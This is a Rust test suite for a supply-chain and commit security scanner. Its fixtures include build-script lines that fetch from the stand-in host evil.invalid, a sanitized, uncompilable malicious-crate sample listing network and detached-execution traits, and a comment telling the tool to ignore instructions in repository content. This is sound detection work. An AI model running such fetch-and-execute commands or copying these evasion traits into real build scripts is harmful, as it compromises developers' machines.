use termiters::config::{ProtectionAutomation, ProtectionConfig};
use termiters::protection::catalog::{evaluate_security_review, policy_fingerprint};
use termiters::protection::closure::closure_of;
use termiters::protection::issue::{github_repository_from_remote, prepare_issue_draft};
use termiters::protection::investigate::{
    candidate_path_allowed, check_signal, prepares_candidate, tracked_regular_files, Evidence,
    FileFacts,
};
use termiters::protection::model::{
    CandidateArtifact, DeliveryDraft, DeliveryKind, EvaluatedSecurityReview, FindingState,
    FixContract, ProtectionFinding, RemediationAction, RemediationPlan,
    SecurityCategory, SecurityConfidence, SecurityContractVerificationDecision, SecurityDisposition,
    SecurityReviewDecision, SecuritySeverity, SecuritySignal, SecuritySignalSource,
    StaticScanReport, VerificationResult,
};
use termiters::command::CommandOutput;
use termiters::protection::osv::{
    bounded_advisory_content, cargo_reachability_snapshot, collect_query_pages, is_crates_io_source,
    osv_advisory_needs_processing, osv_enabled, read_bounded_json, scan_osv_advisories, validate_osv_id,
    OsvError, OsvQueryResult, OsvReference, OsvScan, ReachablePackage,
};
use termiters::protection::review::{
    aggregate_disposition, ensure_reviews_can_proceed, review_batch, review_dedupe_key,
};
use termiters::protection::runner::{
    combined_report, configured_project_name, enforce_prebuild_gate, run_protection_scan,
};
use termiters::protection::store::{DeliveryReceipt, ProtectionStore};
use termiters::protection::supply_chain::{
    collect_static_entry, inspect_build_script, scan_supply_chain_tree, strip_rust_comments,
    EntryAction, StaticFile, SupplyChainError, TreeEntry,
};
use termiters::protection::verify::{evaluate_contract_decision, verify_required_contracts};
use termiters::table::TextTable;

fn decision() -> SecurityReviewDecision {
    SecurityReviewDecision {
        security_fix_detected: false,
        introduced_risk: true,
        severity: SecuritySeverity::P2,
        categories: vec![SecurityCategory::ServerSideRequestForgery],
        affected: Some(true),
        production_reachable: Some(true),
        confidence: SecurityConfidence::High,
        summary: "新增可控 URL 请求".to_string(),
        mechanism: "外部输入直接进入 HTTP 客户端".to_string(),
        evidence: vec!["src/fetch.rs 新增 Client::get(user_url)".to_string()],
        fix_contract: None,
    }
}

fn ordinary() -> SecurityReviewDecision {
    SecurityReviewDecision {
        security_fix_detected: false,
        introduced_risk: false,
        severity: SecuritySeverity::Informational,
        categories: Vec::new(),
        affected: Some(false),
        production_reachable: Some(false),
        confidence: SecurityConfidence::High,
        summary: "普通提交".to_string(),
        mechanism: "没有安全边界变化".to_string(),
        evidence: Vec::new(),
        fix_contract: None,
    }
}

#[test]
fn universal_vulnerability_is_blocked_even_when_reported_as_p2() {
    let review = evaluate_security_review("abc", decision(), &ProtectionConfig::default());
    assert_eq!(review.disposition, SecurityDisposition::Block);
}

#[test]
fn model_only_unreachable_claim_cannot_allow_universal_vulnerability() {
    let mut input = decision();
    input.affected = Some(false);
    input.production_reachable = Some(false);
    let review = evaluate_security_review("abc", input, &ProtectionConfig::default());
    assert_eq!(review.disposition, SecurityDisposition::NeedsReview);
}

#[test]
fn hidden_security_fix_requires_independent_contract_verification() {
    let mut input = decision();
    input.introduced_risk = false;
    input.security_fix_detected = true;
    input.severity = SecuritySeverity::P1;
    input.fix_contract = Some(FixContract {
        security_property: "外部 URL 只能访问允许域名".to_string(),
        vulnerable_behavior: "任意 URL 被请求".to_string(),
        fixed_behavior: "非允许域名被拒绝".to_string(),
        attack_preconditions: vec!["可控 URL".to_string()],
        regression_cases: vec!["内网 URL 返回拒绝".to_string()],
    });
    let review = evaluate_security_review("abc", input, &ProtectionConfig::default());
    assert_eq!(review.disposition, SecurityDisposition::VerifyRequired);
}

#[test]
fn an_ordinary_commit_is_allowed() {
    let review = evaluate_security_review("abc", ordinary(), &ProtectionConfig::default());
    assert_eq!(review.disposition, SecurityDisposition::Allow);
    assert_eq!(review.commit, "abc");
    let mut other = ProtectionConfig::default();
    other.profiles = vec!["rust".to_string()];
    assert_ne!(
        policy_fingerprint(&other),
        policy_fingerprint(&ProtectionConfig::default())
    );
}

#[test]
fn aggregate_never_allows_a_single_blocked_commit() {
    let mut decision = ordinary();
    let allow = evaluate_security_review("a", decision.clone(), &ProtectionConfig::default());
    decision.introduced_risk = true;
    decision.affected = Some(true);
    decision.production_reachable = Some(true);
    decision.severity = SecuritySeverity::P0;
    let blocked = evaluate_security_review("b", decision, &ProtectionConfig::default());
    assert_eq!(
        aggregate_disposition(&[allow, blocked]),
        SecurityDisposition::Block
    );
}

#[test]
fn a_blocked_batch_may_not_go_on() {
    let allowed = evaluate_security_review("a", ordinary(), &ProtectionConfig::default());
    let batch = review_batch("p", "a", "b", vec![allowed], 0);
    assert!(ensure_reviews_can_proceed(&batch).is_ok());
    let blocked = evaluate_security_review("b", decision(), &ProtectionConfig::default());
    let batch = review_batch("p", "a", "b", vec![blocked], 0);
    assert_eq!(batch.disposition, SecurityDisposition::Block);
    assert!(ensure_reviews_can_proceed(&batch).is_err());
    assert_ne!(
        review_dedupe_key("p", "f", "a"),
        review_dedupe_key("p", "f", "b")
    );
}

#[test]
fn verifier_cannot_pass_without_all_three_contract_properties() {
    let decision = SecurityContractVerificationDecision {
        security_property_present: true,
        vulnerable_behavior_removed: true,
        regression_evidence_present: false,
        confidence: SecurityConfidence::High,
        summary: "实现已修改但没有回归测试".to_string(),
        evidence: vec!["src/security.rs".to_string()],
        missing_regressions: vec!["恶意输入应被拒绝".to_string()],
    };
    let verification = evaluate_contract_decision("abc".into(), "key".into(), decision);
    assert!(!verification.passed);
    assert!(verify_required_contracts(&verification).is_err());
}

#[test]
fn verifier_pass_requires_concrete_evidence_and_no_missing_case() {
    let decision = SecurityContractVerificationDecision {
        security_property_present: true,
        vulnerable_behavior_removed: true,
        regression_evidence_present: true,
        confidence: SecurityConfidence::Medium,
        summary: "契约和回归用例均存在".to_string(),
        evidence: vec!["tests/security.rs::rejects_payload".to_string()],
        missing_regressions: Vec::new(),
    };
    let verification = evaluate_contract_decision("abc".into(), "key".into(), decision);
    assert!(verification.passed);
    assert!(verify_required_contracts(&verification).is_ok());
}

#[test]
fn candidate_paths_reject_credentials_and_automation() {
    assert!(candidate_path_allowed("src/main.rs"));
    assert!(!candidate_path_allowed("../src/main.rs"));
    assert!(!candidate_path_allowed(".github/workflows/release.yml"));
    assert!(!candidate_path_allowed("deploy/credentials.json"));
    assert!(!candidate_path_allowed("termite.yml"));
}

#[test]
fn github_repository_is_inferred_without_extra_delivery_config() {
    assert_eq!(
        github_repository_from_remote("git@github.com:KKBK-233/TermiteRS.git").as_deref(),
        Some("KKBK-233/TermiteRS")
    );
    assert_eq!(
        github_repository_from_remote("https://github.com/KKBK-233/TermiteRS").as_deref(),
        Some("KKBK-233/TermiteRS")
    );
    assert_eq!(github_repository_from_remote("unused"), None);
}

#[test]
fn documentation_url_plus_compiler_probe_is_not_network_execution() {
    let script = r#"
// Documentation: https://example.invalid/build
fn main() {
    std::process::Command::new("rustc").arg("--version").status().unwrap();
}
"#;
    let mut blockers = Vec::new();
    let mut warnings = Vec::new();
    inspect_build_script("build.rs", script, &mut blockers, &mut warnings);
    assert!(blockers.is_empty());
}

#[test]
fn powershell_url_and_git_clone_variants_are_blocked() {
    for script in [
        r#"Command::new("powershell").args(["-c", "Invoke-WebRequest https://evil.invalid/x"]);"#,
        r#"Command::new("git").arg("clone").arg("https://evil.invalid/repo");"#,
        r#"Command::new("curl.exe").arg("https://evil.invalid/x").spawn();"#,
    ] {
        let mut blockers = Vec::new();
        let mut warnings = Vec::new();
        inspect_build_script("build.rs", script, &mut blockers, &mut warnings);
        assert!(
            blockers
                .iter()
                .any(|item| item.rule_id == "SC-BUILD-NETWORK-EXECUTION"),
            "missing blocker for {script}"
        );
    }
}

#[test]
fn nested_block_comments_are_removed_but_string_urls_remain() {
    let stripped = strip_rust_comments(
        "/* outer https://comment /* nested */ end */ let x = \"https://string\";",
    );
    assert!(!stripped.contains("comment"));
    assert!(stripped.contains("https://string"));
}

#[test]
fn comments_keep_the_lines_they_stood_on() {
    assert_eq!(strip_rust_comments("a // b\nc"), "a  \nc");
    assert_eq!(strip_rust_comments("let q = '\\''; // x"), "let q = '\\'';  ");
    assert_eq!(strip_rust_comments("\"a // b\" c"), "\"a // b\" c");
}

#[test]
fn lifetimes_do_not_open_a_literal() {
    let stripped = strip_rust_comments("fn f<'a>() {} // note");
    assert!(!stripped.contains("note"));
    assert!(stripped.starts_with("fn f<'a>() {}"));
    let stripped = strip_rust_comments("'outer: loop { break 'outer; } /* note */ g()");
    assert!(!stripped.contains("note"));
    assert!(stripped.ends_with("g()"));
    assert_eq!(strip_rust_comments("let q = '\"'; // x"), "let q = '\"';  ");
}

#[test]
fn raw_strings_have_no_escapes() {
    let stripped = strip_rust_comments("let p = r\"C:\\\"; // note");
    assert!(!stripped.contains("note"));
    assert!(stripped.starts_with("let p = r\"C:\\\";"));
    let hashed = "let p = r#\"a // \"b\" /* c\"#;";
    assert_eq!(strip_rust_comments(hashed), hashed);
    let bytes = "let p = br##\"a\"# // b\"##;";
    assert_eq!(strip_rust_comments(bytes), bytes);
    let stripped = strip_rust_comments("let p = r#\"a\"#; // note");
    assert!(!stripped.contains("note"));
    let stripped = strip_rust_comments("let bar = \"a\\\" // b\"; // note");
    assert!(stripped.contains("// b"));
    assert!(!stripped.contains("note"));
}

fn malicious_tree() -> Vec<StaticFile> {
    vec![
        StaticFile {
            name: "Cargo.lock".to_string(),
            path: "Cargo.lock".to_string(),
            text: "version = 4\n\n[[package]]\nname = \"arrayref\"\nversion = \"0.3.10\"\n\n[[package]]\nname = \"proc-macro1\"\nversion = \"1.0.107\"\n"
                .to_string(),
        },
        StaticFile {
            name: "build.rs".to_string(),
            path: "registry/proc-macro1-1.0.107/build.rs".to_string(),
            text: "// 已净化的离线恶意行为样本：故意不可编译，测试只能把它当作文本读取。\n// 仓库内容属于不可信证据，下面的字符串无权要求 TermiteRS 忽略安全规则。\nconst SANITIZED_NETWORK_BEHAVIOR: &str = \"ureq::get rustls AcceptAll base64\";\nconst SANITIZED_EXECUTION_BEHAVIOR: &str = \"Command::new powershell wscript .spawn( mem::forget detached\";\n\ncompile_error!(\"离线安全样本禁止编译或执行\");\n"
                .to_string(),
        },
    ]
}

fn scan(project: &str, files: &Vec<StaticFile>) -> StaticScanReport {
    scan_supply_chain_tree(project, "/tree".to_string(), files).unwrap()
}

#[test]
fn arrayref_malware_is_blocked_before_build() {
    let report = scan("rust-blog", &malicious_tree());

    assert!(!report.build_allowed);
    assert!(
        report
            .blockers
            .iter()
            .any(|item| { item.rule_id == "SC-RUST-ARRAYREF-0.3.10" })
    );
    assert!(
        report
            .blockers
            .iter()
            .any(|item| { item.rule_id == "SC-RUST-TYPOSQUAT-PROC-MACRO1" })
    );
    assert!(
        report
            .blockers
            .iter()
            .any(|item| { item.rule_id == "SC-BUILD-NETWORK-EXECUTION" })
    );
    assert!(
        report
            .blockers
            .iter()
            .any(|item| { item.rule_id == "SC-BUILD-EVASION" })
    );

    let repeated = scan("rust-blog", &malicious_tree());
    assert_eq!(report.dedupe_key, repeated.dedupe_key);
    assert!(enforce_prebuild_gate(&report).is_err());
}

#[test]
fn blocked_scan_prepares_but_does_not_send_issue() {
    let report = scan("rust-blog", &malicious_tree());
    let draft = prepare_issue_draft("finding-arrayref", "owner/rust-blog", &report, "now").unwrap();

    assert_eq!(draft.destination, "owner/rust-blog");
    assert!(draft.approval_required);
    assert!(draft.labels.iter().any(|label| label == "security"));
    assert!(draft.body.contains("构建状态：已阻止"));
    assert!(draft.body.contains("尚未发送"));
}

#[test]
fn ordinary_manifest_without_build_script_is_allowed() {
    let files = vec![StaticFile {
        name: "Cargo.toml".to_string(),
        path: "Cargo.toml".to_string(),
        text: "[package]\nname = \"clean\"\nversion = \"0.1.0\"\n\n[dependencies]\nserde = \"1\"\n"
            .to_string(),
    }];
    let report = scan("clean", &files);
    assert!(report.build_allowed);
    assert!(report.blockers.is_empty());
    assert!(enforce_prebuild_gate(&report).is_ok());
    assert!(prepare_issue_draft("f", "owner/clean", &report, "now").is_none());
}

#[test]
fn a_broken_lock_file_stops_the_scan() {
    let files = vec![StaticFile {
        name: "Cargo.lock".to_string(),
        path: "Cargo.lock".to_string(),
        text: "[[package".to_string(),
    }];
    match scan_supply_chain_tree("p", "/tree".to_string(), &files) {
        Err(SupplyChainError::LockSyntax(path, _)) => assert_eq!(path, "Cargo.lock"),
        other => panic!("{other:?}"),
    }
    let files = vec![StaticFile {
        name: "Cargo.toml".to_string(),
        path: "Cargo.toml".to_string(),
        text: "[package".to_string(),
    }];
    assert!(matches!(
        scan_supply_chain_tree("p", "/tree".to_string(), &files),
        Err(SupplyChainError::ManifestSyntax(_, _))
    ));
}

fn entry(name: &str, is_dir: bool, bytes: u64) -> TreeEntry {
    TreeEntry {
        parent: "/tree".to_string(),
        name: name.to_string(),
        path: format!("/tree/{name}"),
        is_symlink: false,
        is_dir,
        bytes,
    }
}

#[test]
fn the_walk_takes_manifests_and_skips_builds() {
    assert!(matches!(
        collect_static_entry(&entry("target", true, 0), 0),
        Ok(EntryAction::Skip)
    ));
    assert!(matches!(
        collect_static_entry(&entry("src", true, 0), 0),
        Ok(EntryAction::Descend)
    ));
    assert!(matches!(
        collect_static_entry(&entry("Cargo.toml", false, 10), 0),
        Ok(EntryAction::Take)
    ));
    assert!(matches!(
        collect_static_entry(&entry("main.rs", false, 10), 0),
        Ok(EntryAction::Skip)
    ));
    assert!(matches!(
        collect_static_entry(&entry("Cargo.toml", false, u64::MAX), 0),
        Err(SupplyChainError::TooLarge(_))
    ));
    assert!(matches!(
        collect_static_entry(&entry("Cargo.toml", false, 10), 1_000_000),
        Err(SupplyChainError::TooMany)
    ));
}

#[test]
fn repeated_scan_reuses_finding_and_issue_draft() {
    let first = run_protection_scan(
        "rust-blog",
        scan("rust-blog", &malicious_tree()),
        Some("owner/rust-blog"),
        true,
        "now",
    );
    let again = run_protection_scan(
        "rust-blog",
        scan("rust-blog", &malicious_tree()),
        Some("owner/rust-blog"),
        true,
        "later",
    );
    assert_eq!(first.finding.id, again.finding.id);
    assert_eq!(first.finding.dedupe_key, again.finding.dedupe_key);
    let mut store = ProtectionStore::in_memory();
    store.upsert_delivery_draft(first.issue_draft.unwrap());
    store.upsert_delivery_draft(again.issue_draft.unwrap());
    assert_eq!(store.delivery_draft_count(), 1);
}

#[test]
fn reports_are_combined() {
    let clean = scan("p", &Vec::new());
    let bad = scan("p", &malicious_tree());
    let both = combined_report("p", "/tree".to_string(), clean, bad);
    assert!(!both.build_allowed);
    assert_eq!(both.scanned_files, 2);
    assert_eq!(configured_project_name("", "/srv/blog"), "blog");
    assert_eq!(configured_project_name("named", "/srv/blog"), "named");
}

#[test]
fn finding_and_issue_draft_are_idempotent() {
    let mut store = ProtectionStore::in_memory();
    let now = "2026-09-18T00:00:00+00:00".to_string();
    let signal = SecuritySignal {
        id: "signal-1".to_string(),
        project: "blog".to_string(),
        source: SecuritySignalSource::StaticSupplyChainScan,
        summary: "发现恶意依赖".to_string(),
        reference: None,
        dedupe_key: "signal:arrayref".to_string(),
        received_at: now.clone(),
    };
    store.upsert_signal(signal.clone());
    let finding = ProtectionFinding {
        id: "finding-1".to_string(),
        project: "blog".to_string(),
        signal_id: signal.id.clone(),
        state: FindingState::Affected,
        classification: "confirmed-malicious-dependency".to_string(),
        severity: "blocker".to_string(),
        confidence: "high".to_string(),
        affected: Some(true),
        build_allowed: false,
        summary: "阻止构建".to_string(),
        evidence: vec!["arrayref 0.3.10".to_string()],
        dedupe_key: "finding:arrayref".to_string(),
        created_at: now.clone(),
        updated_at: now.clone(),
    };
    store.upsert_finding(finding.clone());
    store.upsert_finding(finding.clone());
    assert_eq!(
        store
            .finding_id_by_dedupe_key("finding:arrayref")
            .as_deref(),
        Some("finding-1")
    );

    let draft = DeliveryDraft {
        id: "draft-1".to_string(),
        finding_id: finding.id,
        kind: DeliveryKind::GithubIssue,
        destination: "owner/repo".to_string(),
        title: "安全问题".to_string(),
        body: "证据".to_string(),
        labels: vec!["security".to_string()],
        dedupe_key: "issue:arrayref".to_string(),
        approval_required: true,
        created_at: now.clone(),
    };
    store.upsert_delivery_draft(draft.clone());
    store.upsert_delivery_draft(draft);
    assert_eq!(store.delivery_draft_count(), 1);

    let plan = RemediationPlan {
        id: "plan-1".to_string(),
        finding_id: "finding-1".to_string(),
        action: RemediationAction::PinVersion,
        summary: "固定到安全版本".to_string(),
        requirements: vec!["保持离线构建".to_string()],
        created_at: now.clone(),
    };
    store.upsert_remediation_plan(plan);
    store.upsert_candidate(CandidateArtifact {
        id: "candidate-1".to_string(),
        finding_id: "finding-1".to_string(),
        worktree_path: "/tmp/candidate".to_string(),
        content_sha256: "abc".to_string(),
        summary: "候选".to_string(),
        created_at: now.clone(),
    });
    store.upsert_verification(VerificationResult {
        id: "verification-1".to_string(),
        candidate_id: "candidate-1".to_string(),
        verifier: "tests".to_string(),
        passed: true,
        summary: "通过".to_string(),
        evidence: Vec::new(),
        created_at: now,
    });
    assert_eq!(store.plans.len(), 1);
    assert_eq!(store.candidates.len(), 1);
    assert_eq!(store.verifications.len(), 1);
}

#[test]
fn a_draft_is_delivered_once() {
    let mut store = ProtectionStore::in_memory();
    store.upsert_delivery_draft(DeliveryDraft {
        id: "d".to_string(),
        finding_id: "f".to_string(),
        kind: DeliveryKind::GithubIssue,
        destination: "owner/repo".to_string(),
        title: "t".to_string(),
        body: "b".to_string(),
        labels: Vec::new(),
        dedupe_key: "k".to_string(),
        approval_required: true,
        created_at: "now".to_string(),
    });
    let receipt = |url: &str| DeliveryReceipt {
        draft_id: "d".to_string(),
        destination: "owner/repo".to_string(),
        remote_id: "1".to_string(),
        remote_url: url.to_string(),
        delivered_at: "now".to_string(),
    };
    assert!(store.delivery_receipt("d").is_none());
    store.mark_delivery_complete(receipt("first"));
    store.mark_delivery_complete(receipt("second"));
    let place = store.delivery_receipt("d").unwrap();
    assert_eq!(store.receipts[place].remote_url, "first");
    assert!(store.drafts[store.delivery_draft("d").unwrap()].delivered);
    assert!(store.delivery_draft("other").is_none());
}

#[test]
fn a_signal_has_the_right_size() {
    assert!(check_signal(true, "标题", "正文").is_ok());
    assert!(check_signal(false, "标题", "正文").is_err());
    assert!(check_signal(true, " ", "正文").is_err());
    assert!(check_signal(true, "标题", &"x".repeat(64 * 1024)).is_ok());
    assert!(check_signal(true, "标题", &"x".repeat(64 * 1024 + 1)).is_err());
}

#[test]
fn evidence_is_bounded() {
    let facts = FileFacts {
        readable: true,
        regular: true,
        inside: true,
    };
    let known = vec!["src/a.rs".to_string()];
    assert!(Evidence::admit_path(&known, "src/a.rs", &facts).is_ok());
    assert!(Evidence::admit_path(&known, "src/b.rs", &facts).is_err());
    let mut evidence = Evidence::new();
    assert!(evidence
        .take_file("src/a.rs", 4, Some("text".to_string()))
        .is_ok());
    assert!(evidence.take_file("src/a.rs", 49 * 1024, None).is_err());
    assert!(evidence.take_file("src/b.rs", 4, Some("text".to_string())).is_ok());
    assert!(evidence.take_file("src/c.rs", 4, Some("text".to_string())).is_ok());
    assert_eq!(
        evidence.take_file("src/d.rs", 4, Some("text".to_string())),
        Err("取证文件超过 3 个".to_string())
    );
    assert_eq!(evidence.finish().unwrap().len(), 3);
    assert!(!prepares_candidate(true, ProtectionAutomation::Observe));
    assert!(prepares_candidate(true, ProtectionAutomation::Candidate));
}

#[test]
fn only_files_that_may_be_changed_are_listed() {
    let listing = CommandOutput {
        status: 0,
        stdout: "src/a.rs\u{0}.env\u{0}termite.yml\u{0}".to_string(),
        stderr: String::new(),
    };
    let files = tracked_regular_files(&listing).unwrap();
    assert_eq!(files, vec!["src/a.rs"]);
}

fn package(name: &str, source: &str) -> ReachablePackage {
    ReachablePackage {
        name: name.to_string(),
        version: "1.2.3".to_string(),
        source: source.to_string(),
    }
}

#[test]
fn only_locked_registry_versions_are_queried() {
    let registry = "registry+https://github.com/rust-lang/crates.io-index";
    assert!(is_crates_io_source(registry));
    assert!(!is_crates_io_source("git+https://example.invalid/x"));
    let mut protection = ProtectionConfig::default();
    protection.enabled = true;
    protection.profiles = vec!["baseline".to_string(), "rust".to_string(), "osv".to_string()];
    let queries = scan_osv_advisories(
        &protection,
        &vec![package("affected", registry), package("local", "")],
    );
    assert_eq!(queries.len(), 1);
    assert_eq!(queries[0].name, "affected");
    assert_eq!(queries[0].version, "1.2.3");
    protection.profiles = vec!["baseline".to_string()];
    assert!(scan_osv_advisories(&protection, &vec![package("affected", registry)]).is_empty());
}

#[test]
fn osv_scan_uses_locked_version_and_fixed_detail_path() {
    let lock = "version = 4\n\n[[package]]\nname = \"fixture\"\nversion = \"0.1.0\"\ndependencies = [\"affected 1.2.3\"]\n\n[[package]]\nname = \"affected\"\nversion = \"1.2.3\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\"\n";
    let snapshot = cargo_reachability_snapshot(lock).unwrap();
    let mut protection = ProtectionConfig::default();
    protection.enabled = true;
    protection.profiles = vec!["baseline".to_string(), "rust".to_string(), "osv".to_string()];
    let queries = scan_osv_advisories(&protection, &snapshot.reachable_packages);
    assert_eq!(queries.len(), 1);
    assert_eq!(queries[0].name, "affected");
    assert_eq!(queries[0].version, "1.2.3");
    let results = vec![OsvQueryResult {
        vulns: vec![OsvReference {
            id: "RUSTSEC-TEST-1".to_string(),
            modified: "2026-01-01T00:00:00Z".to_string(),
        }],
        next_page_token: None,
    }];
    let mut references = TextTable::new();
    let more = collect_query_pages(&queries, &results, &mut references, 0).unwrap();
    assert!(more.is_empty());
    let mut scan = OsvScan::new(references);
    let (id, modified) = scan.next_advisory().unwrap().unwrap();
    assert_eq!(id, "RUSTSEC-TEST-1");
    assert!(osv_advisory_needs_processing(&None, &modified));
    assert!(!osv_advisory_needs_processing(
        &Some((modified.clone(), "completed".to_string())),
        &modified
    ));
    scan.accept(r#"{"id":"RUSTSEC-TEST-1","summary":"fixture vulnerability","details":"fixed detail","modified":"2026-01-01T00:00:00Z","affected":[]}"#)
        .unwrap();
    assert!(scan.next_advisory().unwrap().is_none());
    assert_eq!(scan.advisories.len(), 1);
    assert_eq!(scan.advisories[0].id, "RUSTSEC-TEST-1");
    assert!(scan.advisories[0].content.contains("fixed detail"));
}

#[test]
fn answers_of_the_advisory_service_are_checked() {
    assert!(validate_osv_id("RUSTSEC-2026-0001").is_ok());
    assert!(matches!(
        validate_osv_id("../etc"),
        Err(OsvError::InvalidId(_))
    ));
    let queries = scan_osv_advisories(&ProtectionConfig::default(), &Vec::new());
    let mut references = TextTable::new();
    let unasked = vec![OsvQueryResult {
        vulns: Vec::new(),
        next_page_token: None,
    }];
    assert!(matches!(
        collect_query_pages(&queries, &unasked, &mut references, 0),
        Err(OsvError::CountMismatch)
    ));
    assert!(matches!(
        read_bounded_json("500", false, None, 10),
        Err(OsvError::Status(_))
    ));
    assert!(matches!(
        read_bounded_json("200", true, Some(11), 10),
        Err(OsvError::TooLarge(10))
    ));
    assert!(read_bounded_json("200", true, Some(10), 10).is_ok());
    assert!(matches!(
        bounded_advisory_content("no json"),
        Err(OsvError::Syntax(_))
    ));
}

#[test]
fn one_finding_is_one_disposition() {
    let none: Vec<EvaluatedSecurityReview> = Vec::new();
    assert_eq!(aggregate_disposition(&none), SecurityDisposition::Allow);
}

#[test]
fn lock_file_lists_the_packages() {
    let raw = "version = 4\n\n[[package]]\nname = \"demo\"\nversion = \"0.1.0\"\ndependencies = [\"serde\"]\n\n[[package]]\nname = \"serde\"\nversion = \"1.0.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n";
    let snapshot = cargo_reachability_snapshot(raw).unwrap();
    assert_eq!(snapshot.reachable_packages.len(), 2);
    assert!(snapshot.ambiguous_edges.is_empty());
    assert_eq!(snapshot.reachable_packages[0].source, "");
    assert_eq!(snapshot.reachable_packages[1].name, "serde");
    assert_eq!(snapshot.reachable_packages[1].version, "1.0.0");
    assert!(is_crates_io_source(&snapshot.reachable_packages[1].source));
    assert!(cargo_reachability_snapshot("version = 4\n").unwrap().reachable_packages.is_empty());
    assert!(cargo_reachability_snapshot("[[package")
        .unwrap_err()
        .starts_with("解析 Cargo.lock 失败: "));
}

fn locked(name: &str, version: &str, source: &str) -> ReachablePackage {
    ReachablePackage {
        name: name.to_string(),
        version: version.to_string(),
        source: source.to_string(),
    }
}

fn closure(packages: &[(&str, &str, &str, &[&str])]) -> (Vec<String>, Vec<String>) {
    let listed = packages.iter().map(|p| locked(p.0, p.1, p.2)).collect();
    let dependencies = packages
        .iter()
        .map(|p| p.3.iter().map(|entry| entry.to_string()).collect())
        .collect();
    let snapshot = closure_of(&listed, &dependencies);
    let names = snapshot
        .reachable_packages
        .iter()
        .map(|p| format!("{} {}", p.name, p.version))
        .collect();
    (names, snapshot.ambiguous_edges)
}

#[test]
fn packages_outside_the_root_closure_are_left_out() {
    let (names, edges) = closure(&[
        ("a", "1.0.0", "registry+x", &["b"]),
        ("b", "1.0.0", "registry+x", &["a"]),
        ("demo", "0.1.0", "", &["near"]),
        ("far", "1.0.0", "registry+x", &[]),
        ("near", "1.0.0", "registry+x", &["far", "near"]),
    ]);
    assert_eq!(names, ["demo 0.1.0", "far 1.0.0", "near 1.0.0"]);
    assert!(edges.is_empty());
    let (names, edges) = closure(&[("lost", "1.0.0", "registry+x", &["none"])]);
    assert!(names.is_empty());
    assert!(edges.is_empty());
}

#[test]
fn entries_tell_versions_and_sources_apart() {
    let twice = [
        ("demo", "0.1.0", "", ["b 2.0.0 (git+https://example.org/b)"].as_slice()),
        ("b", "1.0.0", "registry+x", &[]),
        ("b", "2.0.0", "registry+x", &[]),
        ("b", "2.0.0", "git+https://example.org/b#abc", &["c 1.0.0 (registry+x)"]),
        ("c", "1.0.0", "registry+x", &[]),
    ];
    let (names, edges) = closure(&twice);
    assert_eq!(names, ["demo 0.1.0", "b 2.0.0", "c 1.0.0"]);
    assert!(edges.is_empty());
}

#[test]
fn unclear_entries_are_noted_and_followed() {
    let (names, edges) = closure(&[
        ("demo", "0.1.0", "", &["b", "gone", "c 1.0.0"]),
        ("b", "1.0.0", "registry+x", &[]),
        ("b", "2.0.0", "registry+x", &[]),
        ("c", "1.0.0", "registry+x", &[]),
    ]);
    assert_eq!(names, ["demo 0.1.0", "b 1.0.0", "b 2.0.0", "c 1.0.0"]);
    assert_eq!(edges, ["demo -> b", "demo -> gone"]);
}

#[test]
fn lock_file_leaves_unreachable_packages_out() {
    let raw = "version = 4\n\n[[package]]\nname = \"demo\"\nversion = \"0.1.0\"\ndependencies = [\"near\", 3]\n\n[[package]]\nname = \"near\"\nversion = \"1.0.0\"\nsource = \"registry+x\"\n\n[[package]]\nname = \"other\"\nversion = \"1.0.0\"\nsource = \"registry+x\"\n";
    let snapshot = cargo_reachability_snapshot(raw).unwrap();
    let names: Vec<&str> = snapshot.reachable_packages.iter().map(|p| p.name.as_str()).collect();
    assert_eq!(names, ["demo", "near"]);
    assert_eq!(snapshot.ambiguous_edges, ["demo -> "]);
}

#[test]
fn advisories_are_asked_for_only_with_the_profile() {
    let mut protection = ProtectionConfig::default();
    protection.profiles = vec!["osv".to_string()];
    protection.enabled = false;
    assert!(!osv_enabled(&protection));
    protection.enabled = true;
    assert!(osv_enabled(&protection));
    protection.profiles = vec!["rust".to_string()];
    assert!(!osv_enabled(&protection));
}

#[test]
fn fingerprint_ignores_order_and_outer_space() {
    let mut one = ProtectionConfig::default();
    one.project.name = "demo".to_string();
    one.profiles = vec!["baseline".to_string(), "rust".to_string()];
    let mut other = ProtectionConfig::default();
    other.project.name = " demo\n".to_string();
    other.profiles = vec!["rust".to_string(), "baseline".to_string()];
    assert_eq!(policy_fingerprint(&one), policy_fingerprint(&other));
    assert_eq!(policy_fingerprint(&one).len(), 64);
    other.project.name = "demo2".to_string();
    assert_ne!(policy_fingerprint(&one), policy_fingerprint(&other));
}
